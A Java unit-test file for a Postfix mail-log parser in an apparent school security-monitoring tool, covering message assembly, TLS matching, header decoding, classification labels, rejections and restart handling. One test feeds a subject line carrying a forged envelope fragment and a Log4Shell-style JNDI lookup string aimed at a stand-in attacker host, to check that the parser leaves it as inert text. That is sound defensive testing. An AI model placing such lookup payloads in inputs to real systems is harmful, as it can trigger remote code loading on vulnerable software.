package org.trustwatch.ingest.mail;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.Duration;
import java.time.Instant;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.List;
import java.util.OptionalLong;
import org.junit.jupiter.api.Test;
import org.trustwatch.ingest.LineDigest;
import org.trustwatch.ingest.LogFormat;
import org.trustwatch.ingest.LogParser;
import org.trustwatch.ingest.ParseContext;
import org.trustwatch.ingest.RawLine;
import org.trustwatch.ingest.category.WebCategories;
import org.trustwatch.schema.MailEvent;
import org.trustwatch.schema.MailRecipient;

class PostfixParserTest {

    private static final ZoneId LONDON = ZoneId.of("Europe/London");
    private static final Instant NOW = Instant.parse("2026-11-23T12:00:00Z");

    private static ParseContext context(Instant now, boolean keepOriginal) {
        return new ParseContext("WOH", LONDON, WebCategories.none(), keepOriginal, Clock.fixed(now, ZoneOffset.UTC));
    }

    /** Feeds lines as one file, with line numbers and byte positions as the connector would give them. */
    private static final class Feed {
        final LogParser parser;
        final CollectingSink sink = new CollectingSink();
        final List<RawLine> lines = new ArrayList<>();
        long position;

        Feed(LogParser parser) {
            this.parser = parser;
        }

        Feed(long startPosition, LogParser parser) {
            this.parser = parser;
            this.position = startPosition;
        }

        Feed add(String... texts) {
            for (String t : texts) {
                RawLine line = new RawLine(t, "/var/log/mail.log", lines.size() + 1, position);
                position += t.getBytes(StandardCharsets.UTF_8).length + 1;
                lines.add(line);
                parser.parse(line, sink);
            }
            return this;
        }

        Feed flush() {
            parser.flush(sink);
            return this;
        }
    }

    private static Feed feed() {
        return new Feed(new PostfixParser(context(NOW, false)));
    }

    // --------------------------------------------------------------------------------------- whole messages

    static final String[] OUTBOUND = {
        "Nov 23 09:15:01 mail postfix/submission/smtpd[2301]: 4F2A31C0E12: client=staff-laptop.woh.sch.uk[10.20.1.45],"
                + " sasl_method=PLAIN, sasl_username=jsmith@woh.sch.uk",
        "Nov 23 09:15:01 mail postfix/cleanup[2305]: 4F2A31C0E12: message-id=<20261123091501.A1@woh.sch.uk>",
        "Nov 23 09:15:01 mail postfix/cleanup[2305]: 4F2A31C0E12: info: header Subject: Year 9 reports"
                + " [OFFICIAL-SENSITIVE] from staff-laptop.woh.sch.uk[10.20.1.45]; from=<jsmith@woh.sch.uk>"
                + " to=<parent.brown@gmail.com> proto=ESMTP helo=<staff-laptop>",
        "Nov 23 09:15:01 mail postfix/cleanup[2305]: 4F2A31C0E12: info: header From: \"Smith, John\""
                + " <JSmith@woh.sch.uk> from staff-laptop.woh.sch.uk[10.20.1.45]; from=<jsmith@woh.sch.uk>"
                + " to=<parent.brown@gmail.com> proto=ESMTP helo=<staff-laptop>",
        "Nov 23 09:15:01 mail postfix/cleanup[2305]: 4F2A31C0E12: info: header To: Mrs Brown"
                + " <Parent.Brown@gmail.com>, admissions@hillcrest.sch.uk from staff-laptop.woh.sch.uk[10.20.1.45];"
                + " from=<jsmith@woh.sch.uk> to=<parent.brown@gmail.com> proto=ESMTP helo=<staff-laptop>",
        "Nov 23 09:15:01 mail postfix/cleanup[2305]: 4F2A31C0E12: info: header Cc: head@woh.sch.uk from"
                + " staff-laptop.woh.sch.uk[10.20.1.45]; from=<jsmith@woh.sch.uk> to=<parent.brown@gmail.com>"
                + " proto=ESMTP helo=<staff-laptop>",
        "Nov 23 09:15:01 mail postfix/cleanup[2305]: 4F2A31C0E12: warning: header X-Classification:"
                + " OFFICIAL-SENSITIVE from staff-laptop.woh.sch.uk[10.20.1.45]; from=<jsmith@woh.sch.uk>"
                + " to=<parent.brown@gmail.com> proto=ESMTP helo=<staff-laptop>",
        "Nov 23 09:15:02 mail postfix/qmgr[1102]: 4F2A31C0E12: from=<jsmith@woh.sch.uk>, size=48213, nrcpt=3"
                + " (queue active)",
        "Nov 23 09:15:02 mail postfix/smtp[2310]: Trusted TLS connection established to"
                + " gmail-smtp-in.l.google.com[142.250.27.26]:25: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384"
                + " (256/256 bits)",
        "Nov 23 09:15:03 mail postfix/smtp[2310]: 4F2A31C0E12: to=<parent.brown@gmail.com>,"
                + " relay=gmail-smtp-in.l.google.com[142.250.27.26]:25, delay=1.6, delays=0.1/0/0.6/0.9, dsn=2.0.0,"
                + " status=sent (250 2.0.0 OK 1700730903 a1si123 - gsmtp)",
        "Nov 23 09:15:03 mail postfix/smtp[2311]: 4F2A31C0E12: to=<admissions@hillcrest.sch.uk>,"
                + " relay=mx.hillcrest.sch.uk[81.2.69.160]:25, delay=1.7, delays=0.1/0/0.8/0.8, dsn=2.0.0,"
                + " status=sent (250 Ok)",
        "Nov 23 09:15:03 mail postfix/lmtp[2312]: 4F2A31C0E12: to=<head@woh.sch.uk>,"
                + " relay=mailstore.woh.sch.uk[private/dovecot-lmtp], delay=0.2, delays=0.1/0/0/0.1, dsn=2.0.0,"
                + " status=sent (250 2.0.0 <head@woh.sch.uk> Saved)",
        "Nov 23 09:15:03 mail postfix/qmgr[1102]: 4F2A31C0E12: removed"
    };

    @Test
    void joinsTheLinesOfOneMessageIntoOneEvent() {
        Feed f = feed().add(OUTBOUND);
        assertTrue(f.sink.rejected.isEmpty(), f.sink.rejected.toString());
        MailEvent e = f.sink.only();
        assertEquals(Instant.parse("2026-11-23T09:15:01Z"), e.getTimestamp());
        assertEquals(NOW, e.getEventIngested());
        assertEquals("postfix", e.getEventDataset());
        assertEquals("WOH", e.getSchoolId());
        assertEquals("mail", e.getObserverHostname());
        assertEquals("/var/log/mail.log", e.getLogFilePath());
        assertEquals(1L, e.getLogLine());
        assertEquals("4F2A31C0E12", e.getEmailLocalId());
        assertEquals("20261123091501.A1@woh.sch.uk", e.getEmailMessageId());
        assertEquals("jsmith@woh.sch.uk", e.getEmailSenderAddress());
        assertEquals("jsmith@woh.sch.uk", e.getEmailFromAddress());
        assertEquals("Smith, John", e.getEmailFromName());
        assertEquals(List.of("parent.brown@gmail.com", "admissions@hillcrest.sch.uk"), e.getEmailToAddress());
        assertEquals(List.of("head@woh.sch.uk"), e.getEmailCcAddress());
        assertEquals("Year 9 reports [OFFICIAL-SENSITIVE]", e.getEmailSubject());
        assertEquals(48213L, e.getEmailSize());
        assertEquals("OFFICIAL-SENSITIVE", e.getEmailClassification());
        assertEquals("jsmith@woh.sch.uk", e.getUserName());
        assertEquals("10.20.1.45", e.getSourceIp());
        assertEquals("outbound", e.getEmailDirection());
        assertNull(e.getEventOriginal(), "the original is kept only when configured");

        assertEquals(3, e.getEmailRecipients().size());
        MailRecipient gmail = CollectingSink.recipient(e, "parent.brown@gmail.com");
        assertEquals("sent", gmail.getStatus());
        assertEquals("gmail-smtp-in.l.google.com", gmail.getRelayHost());
        assertEquals(Boolean.TRUE, gmail.getTls());
        MailRecipient other = CollectingSink.recipient(e, "admissions@hillcrest.sch.uk");
        assertEquals(Boolean.FALSE, other.getTls(), "another smtp process logged no TLS line");
        MailRecipient local = CollectingSink.recipient(e, "head@woh.sch.uk");
        assertNull(local.getTls(), "lmtp deliveries cannot show TLS");
        assertEquals("mailstore.woh.sch.uk", local.getRelayHost());

        // The event is completed by the "removed" line; its hash covers every line of the message (not the TLS line).
        assertEquals(f.lines.get(OUTBOUND.length - 1), f.sink.completedBy.get(0));
        List<String> own = new ArrayList<>(List.of(OUTBOUND));
        own.remove(8);
        assertEquals(LineDigest.sha256Hex(String.join("\n", own)), e.getEventHash());
    }

    @Test
    void keepsTheOriginalLinesWhenConfigured() {
        Feed f = new Feed(new PostfixParser(context(NOW, true))).add(OUTBOUND);
        MailEvent e = f.sink.only();
        List<String> own = new ArrayList<>(List.of(OUTBOUND));
        own.remove(8);
        assertEquals(String.join("\n", own), e.getEventOriginal());
        assertEquals(LineDigest.sha256Hex(e.getEventOriginal()), e.getEventHash());
    }

    @Test
    void theFormatNameMakesThisParser() {
        assertTrue(LogFormat.named("postfix").newParser(context(NOW, false)) instanceof PostfixParser);
    }

    @Test
    void interleavedMessagesStaySeparate() {
        Feed f = feed().add(
                        "Nov 23 10:00:01 mx1 postfix/smtpd[3001]: 1A2B3C4D5E: client=mail-ej1.google.com[209.85.218.41]",
                        "Nov 23 10:00:01 mx1 postfix/smtpd[3002]: 6F7E8D9C0B: client=unknown[81.2.69.142]",
                        "Nov 23 10:00:02 mx1 postfix/cleanup[3005]: 6F7E8D9C0B: message-id=<b@hillcrest.sch.uk>",
                        "Nov 23 10:00:02 mx1 postfix/cleanup[3005]: 1A2B3C4D5E: message-id=<a@gmail.com>",
                        "Nov 23 10:00:02 mx1 postfix/qmgr[1102]: 1A2B3C4D5E: from=<parent.jones@gmail.com>, size=3100,"
                                + " nrcpt=1 (queue active)",
                        "Nov 23 10:00:02 mx1 postfix/qmgr[1102]: 6F7E8D9C0B: from=<office@hillcrest.sch.uk>,"
                                + " size=9000, nrcpt=2 (queue active)",
                        "Nov 23 10:00:03 mx1 postfix/virtual[3010]: 6F7E8D9C0B: to=<21smithj@woh.sch.uk>,"
                                + " relay=virtual, delay=0.1, delays=0/0/0/0.1, dsn=2.0.0, status=sent (delivered to"
                                + " maildir)",
                        "Nov 23 10:00:03 mx1 postfix/virtual[3011]: 1A2B3C4D5E: to=<jsmith@woh.sch.uk>, relay=virtual,"
                                + " delay=0.1, delays=0/0/0/0.1, dsn=2.0.0, status=sent (delivered to maildir)",
                        "Nov 23 10:00:03 mx1 postfix/virtual[3010]: 6F7E8D9C0B: to=<head@woh.sch.uk>, relay=virtual,"
                                + " delay=0.1, delays=0/0/0/0.1, dsn=2.0.0, status=sent (delivered to maildir)",
                        "Nov 23 10:00:03 mx1 opendmarc[901]: 1A2B3C4D5E: gmail.com pass",
                        "Nov 23 10:00:04 mx1 postfix/qmgr[1102]: 6F7E8D9C0B: removed",
                        "Nov 23 10:00:04 mx1 postfix/qmgr[1102]: 1A2B3C4D5E: removed")
                .flush();
        assertEquals(2, f.sink.events.size());
        MailEvent b = f.sink.events.get(0);
        assertEquals("6F7E8D9C0B", b.getEmailLocalId());
        assertEquals("office@hillcrest.sch.uk", b.getEmailSenderAddress());
        assertEquals("b@hillcrest.sch.uk", b.getEmailMessageId());
        assertEquals(9000L, b.getEmailSize());
        assertEquals(
                List.of("21smithj@woh.sch.uk", "head@woh.sch.uk"),
                b.getEmailRecipients().stream().map(MailRecipient::getAddress).toList());
        assertEquals("inbound", b.getEmailDirection());
        assertEquals("81.2.69.142", b.getSourceIp());
        assertNull(b.getEmailDmarcResult());
        assertEquals(2L, b.getLogLine());

        MailEvent a = f.sink.events.get(1);
        assertEquals("1A2B3C4D5E", a.getEmailLocalId());
        assertEquals("parent.jones@gmail.com", a.getEmailSenderAddress());
        assertEquals(
                List.of("jsmith@woh.sch.uk"),
                a.getEmailRecipients().stream().map(MailRecipient::getAddress).toList());
        assertNull(a.getEmailRecipients().get(0).getTls());
        assertEquals("pass", a.getEmailDmarcResult());
        assertEquals("209.85.218.41", a.getSourceIp());
        assertEquals(1L, a.getLogLine());
        assertEquals(f.lines.get(11), f.sink.completedBy.get(1));
    }

    @Test
    void aDeferredRecipientTakesItsFinalStatus() {
        Feed f = feed().add(
                        "Nov 23 11:00:00 mail postfix/pickup[400]: 9C8B7A6F5E: uid=33 from=<noreply@woh.sch.uk>",
                        "Nov 23 11:00:00 mail postfix/qmgr[1102]: 9C8B7A6F5E: from=<noreply@woh.sch.uk>, size=2100, nrcpt=2"
                                + " (queue active)",
                        "Nov 23 11:00:05 mail postfix/smtp[501]: 9C8B7A6F5E: to=<parent@btinternet.com>,"
                                + " relay=mx.bt.lon5.cpcloud.co.uk[65.20.0.49]:25, delay=5, delays=0/0/5/0, dsn=4.4.1,"
                                + " status=deferred (connect to mx.bt.lon5.cpcloud.co.uk[65.20.0.49]:25: Connection timed out)",
                        "Nov 23 11:00:05 mail postfix/smtp[501]: 9C8B7A6F5E: to=<old.pupil@hotmail.co.uk>, relay=none,"
                                + " delay=5, delays=0/0/5/0, dsn=4.4.3, status=deferred (Host or domain name not found)",
                        "Nov 23 11:10:05 mail postfix/qmgr[1102]: 9C8B7A6F5E: from=<noreply@woh.sch.uk>, size=2100, nrcpt=2"
                                + " (queue active)",
                        "Nov 23 11:10:06 mail postfix/smtp[777]: 9C8B7A6F5E: to=<parent@btinternet.com>,"
                                + " relay=mx.bt.lon5.cpcloud.co.uk[65.20.0.49]:25, delay=606, delays=600/0/5/1, dsn=2.0.0,"
                                + " status=sent (250 OK id=1rABC)",
                        "Nov 23 11:10:06 mail postfix/smtp[777]: 9C8B7A6F5E: to=<old.pupil@hotmail.co.uk>,"
                                + " relay=hotmail-com.olc.protection.outlook.com[52.101.68.6]:25, delay=606,"
                                + " delays=600/0/5/1, dsn=5.5.0, status=bounced (host said: 550 5.5.0 Requested action not"
                                + " taken: mailbox unavailable)",
                        "Nov 23 11:10:06 mail postfix/bounce[778]: 9C8B7A6F5E: sender non-delivery notification: 2D3E4F5A6B",
                        "Nov 23 11:10:06 mail postfix/qmgr[1102]: 9C8B7A6F5E: removed");
        assertTrue(f.sink.rejected.isEmpty(), f.sink.rejected.toString());
        MailEvent e = f.sink.only();
        assertEquals(2, e.getEmailRecipients().size(), "one recipient per address, not per attempt");
        assertEquals(
                "sent", CollectingSink.recipient(e, "parent@btinternet.com").getStatus());
        assertEquals(
                "bounced",
                CollectingSink.recipient(e, "old.pupil@hotmail.co.uk").getStatus());
        assertEquals(
                "hotmail-com.olc.protection.outlook.com",
                CollectingSink.recipient(e, "old.pupil@hotmail.co.uk").getRelayHost());
        assertEquals("outbound", e.getEmailDirection());
        assertNull(e.getSourceIp(), "submitted locally (pickup)");
        assertNull(e.getEmailToAddress(), "no header_checks lines: To unknown");
        assertNull(e.getEmailCcAddress(), "no header_checks lines: Cc unknown");
    }

    @Test
    void expiredMessagesMarkTheirDeferredRecipients() {
        Feed f = feed().add(
                        "Nov 23 11:00:05 mail postfix/smtp[501]: 5A5A5A5A5A: to=<parent@example-isp.co.uk>, relay=none,"
                                + " delay=432000, delays=431990/0/10/0, dsn=4.4.1, status=deferred (connect timed out)",
                        "Nov 23 11:00:05 mail postfix/qmgr[1102]: 5A5A5A5A5A: from=<jsmith@woh.sch.uk>, status=expired,"
                                + " returned to sender",
                        "Nov 23 11:00:05 mail postfix/qmgr[1102]: 5A5A5A5A5A: removed");
        MailEvent e = f.sink.only();
        assertEquals("expired", e.getEmailRecipients().get(0).getStatus());
        assertEquals("jsmith@woh.sch.uk", e.getEmailSenderAddress());
    }

    // --------------------------------------------------------------------------------------- TLS (C04)

    private static String[] tlsCase(String tlsLine, String deliveryTime, String deliveryPid) {
        return new String[] {
            "Nov 23 09:00:00 mail postfix/smtpd[100]: 7B7B7B7B7B: client=laptop.woh.sch.uk[10.20.1.7],"
                    + " sasl_method=LOGIN, sasl_username=bursar",
            "Nov 23 09:00:00 mail postfix/qmgr[1102]: 7B7B7B7B7B: from=<bursar@woh.sch.uk>, size=500, nrcpt=1"
                    + " (queue active)",
            tlsLine,
            "Nov 23 " + deliveryTime + " mail postfix/smtp[" + deliveryPid + "]: 7B7B7B7B7B:"
                    + " to=<accounts@supplier.co.uk>, relay=mx.supplier.co.uk[203.0.113.25]:25, delay=1,"
                    + " delays=0/0/0.5/0.5, dsn=2.0.0, status=sent (250 queued)",
            "Nov 23 " + deliveryTime + " mail postfix/qmgr[1102]: 7B7B7B7B7B: removed"
        };
    }

    private static Boolean tlsOf(String[] lines) {
        Feed f = feed().add(lines);
        return f.sink.only().getEmailRecipients().get(0).getTls();
    }

    private static final String TLS_LINE_AT_09_00_01 = "Nov 23 09:00:01 mail postfix/smtp[200]: Verified TLS connection"
            + " established to mx.supplier.co.uk[203.0.113.25]:25: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384"
            + " (256/256 bits)";

    @Test
    void tlsCountsForTheSameSmtpProcessWithinFiveSeconds() {
        assertEquals(Boolean.TRUE, tlsOf(tlsCase(TLS_LINE_AT_09_00_01, "09:00:02", "200")));
        assertEquals(Boolean.TRUE, tlsOf(tlsCase(TLS_LINE_AT_09_00_01, "09:00:06", "200")), "exactly 5 s");
    }

    @Test
    void tlsOfAnotherSmtpProcessDoesNotCount() {
        assertEquals(Boolean.FALSE, tlsOf(tlsCase(TLS_LINE_AT_09_00_01, "09:00:02", "201")));
    }

    @Test
    void tlsSixSecondsEarlierDoesNotCount() {
        assertEquals(Boolean.FALSE, tlsOf(tlsCase(TLS_LINE_AT_09_00_01, "09:00:07", "200")));
    }

    @Test
    void tlsToAnotherPeerDoesNotCount() {
        String otherPeer =
                TLS_LINE_AT_09_00_01.replace("mx.supplier.co.uk[203.0.113.25]", "mx2.other.org[198.51.100.9]");
        assertEquals(Boolean.FALSE, tlsOf(tlsCase(otherPeer, "09:00:02", "200")));
    }

    @Test
    void tlsOnAnotherHostWithTheSamePidDoesNotCount() {
        String otherHost = TLS_LINE_AT_09_00_01.replace(" mail postfix", " mail2 postfix");
        assertEquals(Boolean.FALSE, tlsOf(tlsCase(otherHost, "09:00:02", "200")));
    }

    @Test
    void untrustedAndAnonymousTlsAreStillEncrypted() {
        assertEquals(
                Boolean.TRUE, tlsOf(tlsCase(TLS_LINE_AT_09_00_01.replace("Verified", "Untrusted"), "09:00:02", "200")));
        assertEquals(
                Boolean.TRUE, tlsOf(tlsCase(TLS_LINE_AT_09_00_01.replace("Verified", "Anonymous"), "09:00:02", "200")));
    }

    @Test
    void tlsWithIsoTimestampsAndMicroseconds() {
        Feed f = feed().add(
                        "2026-11-23T09:00:00.100000+00:00 mail postfix/qmgr[1102]: 4Ybc1x2YHDz9sWq: from=<bursar@woh.sch.uk>,"
                                + " size=500, nrcpt=1 (queue active)",
                        "2026-11-23T09:00:01.250000+00:00 mail postfix/smtp[200]: Trusted TLS connection established to"
                                + " mx.supplier.co.uk[203.0.113.25]:25: TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256/256"
                                + " bits)",
                        "2026-11-23T09:00:06.300000+00:00 mail postfix/smtp[200]: 4Ybc1x2YHDz9sWq:"
                                + " to=<accounts@supplier.co.uk>, relay=mx.supplier.co.uk[203.0.113.25]:25, delay=1,"
                                + " delays=0/0/0.5/0.5, dsn=2.0.0, status=sent (250 queued)",
                        "2026-11-23T09:00:06.400000+00:00 mail postfix/qmgr[1102]: 4Ybc1x2YHDz9sWq: removed");
        MailEvent e = f.sink.only();
        assertEquals("4Ybc1x2YHDz9sWq", e.getEmailLocalId());
        assertEquals(Instant.parse("2026-11-23T09:00:00.100Z"), e.getTimestamp());
        assertEquals(Boolean.FALSE, e.getEmailRecipients().get(0).getTls(), "5.05 s is more than 5 s");
    }

    // --------------------------------------------------------------------------------------- To/Cc, headers

    @Test
    void toAndCcAreUnknownWithoutHeaderLinesAndKnownOnceOneIsSeen() {
        Feed without = feed().add(
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: ABCDEF1234: from=<jsmith@woh.sch.uk>, size=1, nrcpt=1 (queue"
                                + " active)",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: ABCDEF1234: removed");
        assertNull(without.sink.only().getEmailToAddress());
        assertNull(without.sink.only().getEmailCcAddress());

        Feed withTo = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: ABCDEF1234: info: header To: jones@woh.sch.uk from"
                                + " local; from=<jsmith@woh.sch.uk> to=<jones@woh.sch.uk>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: ABCDEF1234: removed");
        MailEvent e = withTo.sink.only();
        assertEquals(List.of("jones@woh.sch.uk"), e.getEmailToAddress());
        assertEquals(List.of(), e.getEmailCcAddress(), "header logging is on and showed no Cc: known to be empty");
        assertEquals(1, e.getEmailRecipients().size());
        assertEquals("unknown", e.getEmailRecipients().get(0).getStatus(), "no delivery line: status unknown");
        assertEquals("internal", e.getEmailDirection(), "submitted locally");
    }

    @Test
    void decodesEncodedWordsAndDisplayNames() {
        Feed f = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: D95341E503: info: header Subject:"
                                + " =?utf-8?Q?Gr=C3=BC=C3=9Fe?= =?utf-8?Q?_aus_K=C3=B6ln?= from mail.example.de[198.51.100.4];"
                                + " from=<a@example.de> to=<jsmith@woh.sch.uk> proto=ESMTP helo=<mail.example.de>",
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: D95341E503: info: header From:"
                                + " =?UTF-8?B?SsO8cmdlbiBNw7xsbGVy?= <Juergen@Example.DE> from mail.example.de[198.51.100.4];"
                                + " from=<a@example.de> to=<jsmith@woh.sch.uk> proto=ESMTP helo=<mail.example.de>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: D95341E503: removed");
        MailEvent e = f.sink.only();
        assertEquals("Grüße aus Köln", e.getEmailSubject());
        assertEquals("juergen@example.de", e.getEmailFromAddress());
        assertEquals("Jürgen Müller", e.getEmailFromName());
        assertEquals("a@example.de", e.getEmailSenderAddress(), "from the header line when qmgr's is missing");
        assertEquals("198.51.100.4", e.getSourceIp());
        assertEquals("inbound", e.getEmailDirection());
    }

    @Test
    void aToHeaderCutOffByPostfixDropsItsPartialLastAddress() {
        StringBuilder to = new StringBuilder("To: ");
        for (int i = 1; to.length() < 190; i++) {
            to.append("parent").append(i).append("@hillcrest.sch.uk, ");
        }
        String header = (to + "parent99@hillcrest.sch.uk").substring(0, 200); // what "%.200s" logs
        Feed f = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: 1B1B1B1B1B: info: header " + header
                                + " from laptop[10.0.0.5]; from=<jsmith@woh.sch.uk> to=<parent1@hillcrest.sch.uk> proto=ESMTP"
                                + " helo=<laptop>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: 1B1B1B1B1B: removed");
        List<String> addresses = f.sink.only().getEmailToAddress();
        assertFalse(addresses.isEmpty());
        for (String a : addresses) {
            assertTrue(a.endsWith("@hillcrest.sch.uk"), "no cut-off address: " + a);
        }
    }

    @Test
    void sensitivityLabels() {
        String msip = "msip_labels: MSIP_Label_3c5e2f1a-0b7d-4e3a-9c21-5a8f7e6d4c3b_Enabled=true;"
                + " MSIP_Label_3c5e2f1a-0b7d-4e3a-9c21-5a8f7e6d4c3b_Name=Official Sensitive;";
        Feed named = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: 2C2C2C2C2C: warning: header " + msip
                                + " from laptop[10.0.0.5]; from=<jsmith@woh.sch.uk> to=<a@b.org> proto=ESMTP helo=<laptop>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: 2C2C2C2C2C: removed");
        assertEquals("Official Sensitive", named.sink.only().getEmailClassification());

        String cut = "msip_labels: MSIP_Label_3c5e2f1a-0b7d-4e3a-9c21-5a8f7e6d4c3b_Enabled=true;"
                + " MSIP_Label_3c5e2f1a-0b7d-4e3a-9c21-5a8f7e6d4c3b_SetDate=2026-11-23T09:00:00Z;"
                + " MSIP_Label_3c5e2f1a-0b7d-4e3a-9c21-5a8f7";
        Feed unnamed = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: 2C2C2C2C2C: warning: header " + cut
                                + " from laptop[10.0.0.5]; from=<jsmith@woh.sch.uk> to=<a@b.org> proto=ESMTP helo=<laptop>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: 2C2C2C2C2C: removed");
        assertEquals(
                "MSIP_Label_3c5e2f1a-0b7d-4e3a-9c21-5a8f7e6d4c3b",
                unnamed.sink.only().getEmailClassification());

        Feed marking = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: 2C2C2C2C2C: warning: header X-Protective-Marking: VER=2012,"
                                + " NS=gov.uk, SEC=OFFICIAL-SENSITIVE, ORG=woh from laptop[10.0.0.5]; from=<jsmith@woh.sch.uk>"
                                + " to=<a@b.org> proto=ESMTP helo=<laptop>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: 2C2C2C2C2C: removed");
        assertEquals("OFFICIAL-SENSITIVE", marking.sink.only().getEmailClassification());
    }

    @Test
    void aSubjectCannotForgeTheEnvelopePart() {
        Feed f = feed().add(
                        "Nov 23 12:00:00 mail postfix/cleanup[2]: 3D3D3D3D3D: info: header Subject: hi; from=<ceo@woh.sch.uk>"
                                + " to=<victim@woh.sch.uk> ${jndi:ldap://evil.example/a} from evil.example[203.0.113.66];"
                                + " from=<spoof@evil.example> to=<jsmith@woh.sch.uk> proto=ESMTP helo=<evil.example>",
                        "Nov 23 12:00:00 mail postfix/qmgr[1]: 3D3D3D3D3D: removed");
        MailEvent e = f.sink.only();
        assertEquals(
                "hi; from=<ceo@woh.sch.uk> to=<victim@woh.sch.uk> ${jndi:ldap://evil.example/a}",
                e.getEmailSubject(),
                "kept as text, never interpreted");
        assertEquals("spoof@evil.example", e.getEmailSenderAddress());
        assertEquals("jsmith@woh.sch.uk", e.getEmailRecipients().get(0).getAddress());
        assertEquals("203.0.113.66", e.getSourceIp());
    }

    // --------------------------------------------------------------------------------------- refusals

    @Test
    void noqueueRcptRejectIsAMessageWithARejectedRecipient() {
        Feed f = feed().add(
                        "Nov 23 07:47:48 mx1 postfix/smtpd[8738]: NOQUEUE: reject: RCPT from unknown[203.0.113.9]: 554 5.7.1"
                                + " <21smithj@woh.sch.uk>: Recipient address rejected: Access denied;"
                                + " from=<prize@lottery-win.example> to=<21SmithJ@woh.sch.uk> proto=ESMTP"
                                + " helo=<lottery-win.example>");
        MailEvent e = f.sink.only();
        assertNull(e.getEmailLocalId());
        assertEquals("prize@lottery-win.example", e.getEmailSenderAddress());
        assertEquals("203.0.113.9", e.getSourceIp());
        assertEquals(1, e.getEmailRecipients().size());
        assertEquals("21smithj@woh.sch.uk", e.getEmailRecipients().get(0).getAddress());
        assertEquals("rejected", e.getEmailRecipients().get(0).getStatus());
        assertEquals("inbound", e.getEmailDirection());
        assertEquals(Instant.parse("2026-11-23T07:47:48Z"), e.getTimestamp());
        assertEquals(f.lines.get(0), f.sink.completedBy.get(0));
        assertEquals(LineDigest.sha256Hex(f.lines.get(0).text()), e.getEventHash());
    }

    @Test
    void aMilterRejectAtEndOfMessageEmitsTheMessageAtOnce() {
        Feed f = feed().add(
                        "Nov 23 08:00:00 mx1 postfix/smtpd[10]: 4104E3D9AA: client=bad.example[203.0.113.50]",
                        "Nov 23 08:00:01 mx1 postfix/cleanup[11]: 4104E3D9AA: milter-reject: END-OF-MESSAGE from"
                                + " bad.example[203.0.113.50]: 5.7.1 Blocked by SpamAssassin; from=<x@bad.example>"
                                + " to=<office@woh.sch.uk> proto=ESMTP helo=<bad.example>");
        MailEvent e = f.sink.only();
        assertEquals("rejected", e.getEmailRecipients().get(0).getStatus());
        assertEquals("office@woh.sch.uk", e.getEmailRecipients().get(0).getAddress());
        assertEquals(0, ((PostfixParser) f.parser).openMessages());
        f.add("Nov 23 08:00:01 mx1 postfix/qmgr[12]: 4104E3D9AA: removed").flush();
        assertEquals(1, f.sink.events.size(), "a stray line after the refusal makes no second event");
    }

    // --------------------------------------------------------------------------------------- state

    @Test
    void earliestPendingPositionIsTheFirstLineOfTheOldestOpenMessage() {
        PostfixParser parser = new PostfixParser(context(NOW, false));
        Feed f = new Feed(parser);
        assertEquals(OptionalLong.empty(), parser.earliestPendingPosition());
        f.add("Nov 23 10:00:00 mail postfix/smtpd[1]: AAAAA11111: client=a.example[198.51.100.1]");
        long posA = f.lines.get(0).position();
        f.add("Nov 23 10:00:00 mail dovecot: imap-login: Login: user=<jsmith>");
        f.add("Nov 23 10:00:01 mail postfix/smtpd[2]: BBBBB22222: client=b.example[198.51.100.2]");
        long posB = f.lines.get(2).position();
        assertEquals(OptionalLong.of(posA), parser.earliestPendingPosition());
        f.add(
                "Nov 23 10:00:02 mail postfix/qmgr[3]: AAAAA11111: from=<a@a.example>, size=1, nrcpt=1 (queue active)",
                "Nov 23 10:00:03 mail postfix/qmgr[3]: AAAAA11111: removed");
        assertEquals(OptionalLong.of(posB), parser.earliestPendingPosition());
        f.add("Nov 23 10:00:03 mail postfix/qmgr[3]: BBBBB22222: removed");
        assertEquals(OptionalLong.empty(), parser.earliestPendingPosition());
    }

    @Test
    void aRestartResumesFromThePendingPositionWithoutLosingTheOpenMessage() {
        String[] file = {
            "Nov 23 10:00:00 mail postfix/smtpd[1]: CCCCC33333: client=laptop.woh.sch.uk[10.0.0.8],"
                    + " sasl_method=PLAIN, sasl_username=jsmith",
            "Nov 23 10:00:00 mail postfix/smtpd[2]: DDDDD44444: client=mx.partner.org[198.51.100.7]",
            "Nov 23 10:00:01 mail postfix/qmgr[3]: DDDDD44444: from=<clerk@partner.org>, size=10, nrcpt=1 (queue"
                    + " active)",
            "Nov 23 10:00:01 mail postfix/virtual[4]: DDDDD44444: to=<office@woh.sch.uk>, relay=virtual, delay=0.1,"
                    + " delays=0/0/0/0.1, dsn=2.0.0, status=sent (delivered to maildir)",
            "Nov 23 10:00:01 mail postfix/qmgr[3]: DDDDD44444: removed",
            "Nov 23 10:00:02 mail postfix/qmgr[3]: CCCCC33333: from=<jsmith@woh.sch.uk>, size=20, nrcpt=1 (queue"
                    + " active)",
            // -- the connector stops here --
            "Nov 23 10:00:03 mail postfix/smtp[5]: CCCCC33333: to=<parent@gmail.com>,"
                    + " relay=gmail-smtp-in.l.google.com[142.250.27.26]:25, delay=1, delays=0/0/0.5/0.5, dsn=2.0.0,"
                    + " status=sent (250 ok)",
            "Nov 23 10:00:03 mail postfix/qmgr[3]: CCCCC33333: removed"
        };
        PostfixParser before = new PostfixParser(context(NOW, false));
        Feed first = new Feed(before);
